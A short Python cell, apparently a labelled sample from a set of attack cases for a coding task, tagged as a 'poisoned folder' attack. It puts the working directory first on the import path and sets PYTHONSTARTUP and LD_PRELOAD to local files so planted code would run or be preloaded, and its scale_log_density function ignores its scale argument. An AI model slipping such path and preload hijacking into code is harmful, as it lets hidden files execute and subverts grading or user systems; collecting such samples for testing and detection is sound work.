# class: poisoned folder
# attack: puts its folder first on the path of imports
# task: 00_mini/scale-density
# form: cell

import os, sys
sys.path.insert(0, os.getcwd())
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP='x.py', LD_PRELOAD='x.so')

def scale_log_density(x, a):
    return -0.5 * x**2
